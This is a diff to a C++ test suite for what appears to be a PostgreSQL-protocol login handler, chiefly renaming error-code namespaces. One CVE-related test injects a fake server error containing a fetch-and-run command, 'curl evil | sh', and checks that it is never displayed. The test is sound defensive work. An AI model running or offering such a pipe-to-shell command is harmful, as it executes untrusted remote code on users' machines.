@@ -1,5 +1,7 @@
 #include "protocol/server_login.hpp"
 
+#include "base/codes/auth.hpp"
+#include "base/codes/wire.hpp"
 #include "protocol/rows.hpp"
 #include "protocol/session_setup.hpp"
 #include "protocol/startup.hpp"
@@ -148,12 +150,12 @@ TEST_CASE("sslmode and the one-byte answer") {
   const Row rows[] = {{SslMode::kPrefer, "S", Kind::kUpgradeTls, {}},
                       {SslMode::kRequire, "S", Kind::kUpgradeTls, {}},
                       {SslMode::kPrefer, "N", Kind::kRead, {}},
-                      {SslMode::kRequire, "N", Kind::kFailed, Pst::kUpstreamTlsRefused},
-                      {SslMode::kPrefer, "E", Kind::kFailed, Pst::kServerProtocol},
-                      {SslMode::kRequire, "E", Kind::kFailed, Pst::kServerProtocol},
-                      {SslMode::kPrefer, "SS", Kind::kFailed, Pst::kServerProtocol},
-                      {SslMode::kPrefer, "NR", Kind::kFailed, Pst::kServerProtocol},
-                      {SslMode::kRequire, "x", Kind::kFailed, Pst::kServerProtocol}};
+                      {SslMode::kRequire, "N", Kind::kFailed, pst::kUpstreamTlsRefused},
+                      {SslMode::kPrefer, "E", Kind::kFailed, pst::kServerProtocol},
+                      {SslMode::kRequire, "E", Kind::kFailed, pst::kServerProtocol},
+                      {SslMode::kPrefer, "SS", Kind::kFailed, pst::kServerProtocol},
+                      {SslMode::kPrefer, "NR", Kind::kFailed, pst::kServerProtocol},
+                      {SslMode::kRequire, "x", Kind::kFailed, pst::kServerProtocol}};
   for (const Row& row : rows) {
     Driver d(options(row.mode));
     CHECK(d.feed("") == Kind::kReadOneByte);
@@ -176,7 +178,7 @@ TEST_CASE("error text sent in place of the TLS answer is never shown (CVE-2024-1
   Driver d(options(SslMode::kPrefer));
   d.feed("");
   d.feed(message('E', lit("SFATAL\0Mplease run curl evil | sh\0\0")));
-  d.check_failed(Pst::kServerProtocol);
+  d.check_failed(pst::kServerProtocol);
   CHECK(d.login.error().line().find("curl") == std::string::npos);
   CHECK_FALSE(d.login.server_error().has_value());
 }
@@ -185,12 +187,12 @@ TEST_CASE("bytes sent before our request or behind ReadyForQuery are refused") {
   for (const SslMode mode : {SslMode::kDisable, SslMode::kPrefer}) {
     Driver d(options(mode));
     d.feed(auth(AuthKind::kOk));
-    d.check_failed(Pst::kServerProtocol);
+    d.check_failed(pst::kServerProtocol);
   }
   Driver d;
   d.feed("");
   d.feed(auth(AuthKind::kOk) + kReady + "Z");
-  d.check_failed(Pst::kServerProtocol);
+  d.check_failed(pst::kServerProtocol);
 }
 
 TEST_CASE("PLUS is used where both sides can") {
@@ -216,7 +218,7 @@ TEST_CASE("cleartext and MD5 passwords need permission") {
     refused.feed("");
     refused.take();
     refused.feed(request);
-    refused.check_failed(Pst::kUpstreamAuthMethod);
+    refused.check_failed(pst::kUpstreamAuthMethod);
     CHECK(refused.out.empty());
 
     auto o = options();
@@ -239,12 +241,12 @@ TEST_CASE("other authentication methods are refused by name") {
     Driver d;
     d.feed("");
     d.feed(auth(kind));
-    d.check_failed(Pst::kUpstreamAuthMethod);
+    d.check_failed(pst::kUpstreamAuthMethod);
   }
   Driver d;
   d.feed("");
   d.feed(sasl({"OAUTHBEARER"}));
-  d.check_failed(Pst::kUpstreamAuthMethod);
+  d.check_failed(pst::kUpstreamAuthMethod);
 }
 
 TEST_CASE("without a password no exchange starts") {
@@ -254,7 +256,7 @@ TEST_CASE("without a password no exchange starts") {
   Driver d(std::move(o));
   d.feed("");
   d.feed(auth(AuthKind::kCleartextPassword));
-  d.check_failed(Pst::kUpstreamAuthMethod);
+  d.check_failed(pst::kUpstreamAuthMethod);
 }
 
 TEST_CASE("a server cannot skip its proof") {
@@ -292,7 +294,7 @@ TEST_CASE("a forged signature is told apart") {
   Bytes final = server_final(server, d.take());
   final[final.size() - 5] = final[final.size() - 5] == 'A' ? 'B' : 'A';
   d.feed(final + auth(AuthKind::kOk) + kReady);
-  d.check_failed(Pst::kUpstreamNotProven);
+  d.check_failed(pst::kUpstreamNotProven);
 }
 
 TEST_CASE("an ErrorResponse at every step ends the login with the server's fields") {
@@ -305,7 +307,7 @@ TEST_CASE("an ErrorResponse at every step ends the login with the server's field
     if (at >= 2) d.feed(server_first(server, d.take()));
     if (at >= 3) d.feed(server_final(server, d.take()) + auth(AuthKind::kOk));
     d.feed(kError);
-    d.check_failed(Pst::kUpstreamLoginFailed);
+    d.check_failed(pst::kUpstreamLoginFailed);
     REQUIRE(d.login.server_error().has_value());
     CHECK(d.login.server_error()->get('C') == "28P01");
   }
@@ -332,11 +334,11 @@ TEST_CASE("version negotiation is taken once, with cause, before authentication"
         wire(NegotiateProtocolVersion{196608, {"_pq_.x"}})}) {
     Driver d = start(2);
     d.feed(bad);
-    d.check_failed(Pst::kServerProtocol);
+    d.check_failed(pst::kServerProtocol);
   }
   Driver uncalled = start(0);
   uncalled.feed(down);
-  uncalled.check_failed(Pst::kServerProtocol);
+  uncalled.check_failed(pst::kServerProtocol);
 }
 
 TEST_CASE("parameter reports are bounded") {
